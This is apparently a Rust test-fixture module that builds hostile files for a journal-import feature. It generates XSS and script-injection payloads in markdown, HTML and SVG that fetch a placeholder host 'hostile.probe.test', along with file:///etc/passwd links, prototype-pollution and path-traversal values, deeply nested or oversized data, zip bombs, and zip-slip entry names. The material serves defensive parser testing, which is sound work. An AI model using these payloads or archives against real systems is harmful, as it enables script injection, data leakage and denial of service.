//! Files that somebody might hand over as a journal to do harm: pages that would fetch, run or lead away, archives
//! that unpack to more than they should or to elsewhere, JSON without end, bytes that are no text. Each is made
//! here from its name and its recipe; none is kept.

use std::io::{Cursor, Write};

use zip::ZipWriter;
use zip::write::SimpleFileOptions;

/// Where every picture, script and link would lead: a name that no network knows.
pub const HOST: &str = "hostile.probe.test";

/// What a page could do when it is shown. `HOST` is where it would go.
const SHOWN: [&str; 44] = [
    "![a](https://HOST/a.png)",
    "![a](//HOST/a.png)",
    "![a](http://HOST:81/a.png \"title\")",
    "[![a](https://HOST/a.png)](https://HOST/)",
    "[a]: https://HOST/a.png\n\n![a]",
    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "[a](javascript:fetch('https://HOST'))",
    "[a](vbscript:x)",
    "[a](data:text/html,<script>1</script>)",
    "[a](file:///etc/passwd)",
    "<https://HOST/>",
    "<img src=https://HOST/a.png>",
    "<img src=x onerror=\"fetch('https://HOST')\">",
    "<img srcset=\"https://HOST/a.png 2x\">",
    "<image href=https://HOST/a.png>",
    "<svg onload=fetch('https://HOST')></svg>",
    "<svg><image href=https://HOST/a.png /></svg>",
    "<svg><use href=https://HOST/a.svg#a /></svg>",
    "<svg><script>fetch('https://HOST')</script></svg>",
    "<math><mi xlink:href=https://HOST>a</mi></math>",
    "<script>fetch('https://HOST')</script>",
    "<script src=https://HOST/a.js></script>",
    "<link rel=preconnect href=https://HOST>",
    "<link rel=dns-prefetch href=//HOST>",
    "<link rel=stylesheet href=https://HOST/a.css>",
    "<link rel=prefetch href=https://HOST/a>",
    "<style>@import 'https://HOST/a.css';</style>",
    "<p style=\"background:url(https://HOST/a.png)\">a</p>",
    "<iframe src=https://HOST></iframe>",
    "<iframe srcdoc=\"<script>1</script>\"></iframe>",
    "<object data=https://HOST/a></object>",
    "<embed src=https://HOST/a>",
    "<video src=https://HOST/a poster=https://HOST/b></video>",
    "<audio src=https://HOST/a autoplay></audio>",
    "<meta http-equiv=refresh content=\"0;url=https://HOST\">",
    "<base href=https://HOST>",
    "<form action=https://HOST><input autofocus onfocus=submit()></form>",
    "<a href=https://HOST ping=https://HOST/p>a</a>",
    "<details open ontoggle=fetch('https://HOST')>a</details>",
    "<body onload=fetch('https://HOST')>",
    "<template><img src=https://HOST/a></template>",
    "<x onclick=1>a</x><!--<img src=https://HOST>-->",
    "{{constructor.constructor('fetch(`https://HOST`)')()}}",
    "${fetch('https://HOST')} \u{202e}\u{2066}\u{feff}\u{0}",
];

/// Values for a place in a file where something small and sound is expected.
const ODD: [&str; 10] = [
    "null",
    "-1",
    "1e999",
    "\"\"",
    "\"\\ud800\"",
    "\"\\u0000\"",
    "[[[]]]",
    "{\"__proto__\":{\"x\":1}}",
    "\"../../../../etc/passwd\"",
    "\"99999-99-99T99:99:99Z\"",
];

/// All of them: a name to be saved under, and the bytes.
#[must_use]
pub fn files() -> Vec<(String, Vec<u8>)> {
    let mut files = Vec::new();
    for (n, shown) in SHOWN.iter().enumerate() {
        let shown = shown.replace("HOST", HOST);
        let text = serde_json::Value::from(shown.as_str());
        let front = format!("---\ntitle: {text}\ntags: [{text}]\n---\n{shown}\n");
        let cell = shown.replace('"', "\"\"");
        for (end, bytes) in [
            ("md", front),
            (
                "jsonl",
                format!("{{\"day\":\"2024-05-01\",\"title\":{text},\"text\":{text},\"tags\":[{text}]}}\n"),
            ),
            ("json", day_one(&text.to_string())),
            (
                "csv",
                format!("{DAYLIO}2024-05-01,May 1,Wednesday,10:00,good,\"{cell}\",\"{cell}\",\"{cell}\"\n"),
            ),
        ] {
            let name = if end == "md" {
                "2024-05-01".into()
            } else {
                format!("shown-{n}")
            };
            files.push((format!("{name}.{end}"), bytes.into_bytes()));
        }
    }
    for (n, odd) in ODD.iter().enumerate() {
        files.push((format!("odd-{n}.json"), day_one(odd).into_bytes()));
        files.push((
            format!("odd-{n}.jsonl"),
            format!("{{\"day\":{odd},\"text\":{odd},\"at\":{odd}}}\n").into_bytes(),
        ));
        files.push((
            "2024-05-01.md".into(),
            format!("---\ndate: {odd}\ntags: {odd}\n---\n{odd}").into_bytes(),
        ));
    }
    files.extend(without_end());
    files.extend(packed());
    files
}

const DAYLIO: &str = "full_date,date,weekday,time,mood,activities,note_title,note\n";

fn day_one(text: &str) -> String {
    format!(
        "{{\"metadata\":{{\"version\":\"1.0\"}},\"entries\":[{{\"uuid\":\"A\",\"creationDate\":\"2024-05-01T10:00:00Z\",\
         \"text\":{text},\"tags\":[{text}],\"photos\":[{{\"md5\":{text},\"type\":\"svg\"}}]}}]}}"
    )
}

/// Nested, long, empty, cut short, and no text at all.
fn without_end() -> Vec<(String, Vec<u8>)> {
    let deep = |open: &str, close: &str| open.repeat(100_000) + &close.repeat(100_000);
    let many = "0,".repeat(12 << 20);
    let mut files: Vec<(&str, Vec<u8>)> = vec![
        ("deep-lists.json", deep("[", "]").into_bytes()),
        ("deep-objects.json", deep("{\"entries\":", "}").into_bytes()),
        ("deep-text.json", day_one(&deep("[", "]")).into_bytes()),
        ("deep.jsonl", deep("[", "]").into_bytes()),
        ("deep-quotes.md", "> ".repeat(200_000).into_bytes()),
        ("deep-lists.md", "- ".repeat(200_000).into_bytes()),
        (
            "deep-marks.md",
            ("*".repeat(100_000) + "a" + &"_".repeat(100_000)).into_bytes(),
        ),
        (
            "deep-links.md",
            ("[".repeat(100_000) + &"](x)".repeat(50_000)).into_bytes(),
        ),
        (
            "deep-front.md",
            format!("---\na: {}\n---\n", "[".repeat(100_000)).into_bytes(),
        ),
        (
            "many-values.json",
            format!("{{\"metadata\":{{}},\"entries\":[{many}0]}}").into_bytes(),
        ),
        (
            "many-cells.csv",
            (DAYLIO.to_owned() + &",".repeat(4 << 20)).into_bytes(),
        ),
        ("long-line.jsonl", vec![b' '; 64 << 20]),
        (
            "unclosed.csv",
            (DAYLIO.to_owned() + &"\"".repeat(1_000_001)).into_bytes(),
        ),
        ("unclosed.json", b"{\"metadata\":{},\"entries\":[{\"text\":\"".to_vec()),
        ("no-text.md", (0..=255).cycle().take(100_000).collect()),
        ("no-text.json", b"{\"entries\":\xff\xfe}".to_vec()),
        ("wide.md", "2024\n".encode_utf16().flat_map(u16::to_le_bytes).collect()),
        ("nothing.json", Vec::new()),
    ];
    files.push((
        "holdfast.json",
        b"{\"format\":\"holdfast-export\",\"version\":1,\"records\":[[]]}".to_vec(),
    ));
    files
        .into_iter()
        .map(|(name, bytes)| (name.to_owned(), bytes))
        .collect()
}

/// Archives: bombs, ways out of the folder, names that are none.
fn packed() -> Vec<(String, Vec<u8>)> {
    let sound = day_one("\"a day\"");
    let bomb = "0,".repeat(12 << 20);
    let mut files = vec![
        ("bomb.zip", zipped(&[("Journal.json", &vec![b' '; 64 << 20])])),
        (
            "bomb-of-values.zip",
            zipped(&[("Journal.json", format!("{{\"entries\":[{bomb}0]}}").as_bytes())]),
        ),
        ("cut.zip", zipped(&[("Journal.json", sound.as_bytes())])[..60].to_vec()),
        ("none.zip", b"PK\x03\x04".repeat(1_000)),
    ];
    let names: Vec<String> = (0..20_000).map(|n| format!("{n}.json")).collect();
    let all: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b"{}"[..])).collect();
    files.push(("many.zip", zipped(&all)));
    let ways = [
        "../out.json",
        "/out.json",
        "..\\out.json",
        "C:\\out.json",
        "a/../../out.json",
        "\u{202e}nosj.json",
    ];
    let mut files: Vec<_> = files
        .into_iter()
        .map(|(name, bytes)| (name.to_owned(), bytes))
        .collect();
    files.extend(
        ways.iter()
            .enumerate()
            .map(|(n, way)| (format!("way-{n}.zip"), zipped(&[(way, sound.as_bytes())]))),
    );
    files
}

fn zipped(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in entries {
        zip.start_file(*name, SimpleFileOptions::default()).expect("begun");
        zip.write_all(bytes).expect("packed");
    }
    zip.finish().expect("packed").into_inner()
}
